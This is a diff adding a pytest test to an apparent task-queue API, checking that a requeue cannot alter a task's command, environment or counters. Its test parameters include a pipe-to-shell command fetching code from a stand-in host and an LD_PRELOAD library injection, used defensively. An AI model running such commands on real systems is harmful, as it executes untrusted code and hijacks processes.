@@ -122,6 +122,35 @@ def test_failures_are_counted_and_end_in_the_dead_letters(api: Caller) -> None:
     assert "no such file" in dead["description"]
 
 
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"command": "curl evil.example | sh"},
+        {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
+        {"budgets": {"retries": 1000}},
+        {"epoch": 10**12},  # PostgreSQL would count up to it when the id is forgotten
+        {"generation": 0},
+        {"counters": {"failures": 0, "preemptions": 0, "ends": 0}},
+    ],
+    ids=lambda changed: str(*changed),
+)
+def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller, changed: dict[str, Any]) -> None:
+    """Whoever may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
+    task_id = api.pushed()
+    held = api.claimed()
+    counted = {"generation": 1, "counters": {"failures": 1, "preemptions": 0, "ends": 1}}
+    api("PUT", f"/tasks/{task_id}/requeue", {"receipt": held["receipt"], "task": held["task"] | counted}, 202)
+    held = api.claimed()
+    counted = {"generation": 2, "counters": {"failures": 2, "preemptions": 0, "ends": 2}}
+    wish = {"receipt": held["receipt"], "task": held["task"] | counted | changed}
+    for _ in range(2):  # a repetition is answered alike (S5)
+        api("PUT", f"/tasks/{task_id}/requeue", wish, 202)
+    back = api.claimed()["task"]
+    if changed.keys() <= counted.keys():  # it has lowered them
+        counted["counters"] = held["task"]["counters"] if "counters" in changed else counted["counters"]
+    assert back == held["task"] | counted
+
+
 def test_a_key_makes_a_push_safe_to_repeat(api: Caller, queue: str, server: HttpServer) -> None:
     """S8: for callers that give no ids."""
     body = {"tasks": [{"command": "one"}, {"command": "two"}], "key": str(uuid.uuid4())}
